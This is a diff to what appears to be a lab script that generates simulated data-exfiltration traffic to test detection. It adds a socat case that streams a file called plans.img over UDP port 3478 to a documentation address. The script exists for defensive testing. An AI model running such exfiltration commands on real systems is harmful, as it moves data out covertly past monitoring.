@@ -5,11 +5,11 @@
 #
 # Needs root and (Debian names): tcpdump ethtool iproute2 iputils-ping curl wget zip nginx-light vsftpd lftp swaks
 # python3-aiosmtpd netcat-openbsd openssl samba smbclient bsdextrautils bsdutils
-# snmp sip-tester.
+# snmp sip-tester socat.
 set -eu
 export XFL_PREFIX=${XFL_PREFIX:-thf}
 all=(http_archive_curl ftp_report_curl mail_report_swaks raw_pieces_nc posts_curl program_wget covert_ping staged_smbclient
-    logs_logger traps_snmptrap benign_theft_tools benign_messages)
+    logs_logger traps_snmptrap udp_push_socat benign_theft_tools benign_messages)
 # shellcheck source=tests/lab/lab.sh
 . "$(dirname "$0")/lab.sh"
 out=203.0.113.20
@@ -173,6 +173,13 @@ traps_snmptrap() { # the same as texts of traps
         "${cli[@]}" snmptrap -v 2c -c public $out '' 1.3.6.1.4.1.8072.2.3.0.1 1.3.6.1.4.1.8072.2.3.2.1 s "$line"
     done
 }
+
+udp_push_socat() { # an encrypted file to a port where calls begin, and nobody answers
+    bg sink "${srv[@]}" socat -u UDP4-RECV:3478,bind=$out /dev/null
+    sleep 0.5
+    head -c 2600000 "$dir/share/plans.img" | "${cli[@]}" socat -u -b 1400 - UDP4-SENDTO:$out:3478
+}
+snap_udp_push_socat() { echo 64; }
 
 benign_messages() { # logs and traps to a provider's servers, and calls
     local i
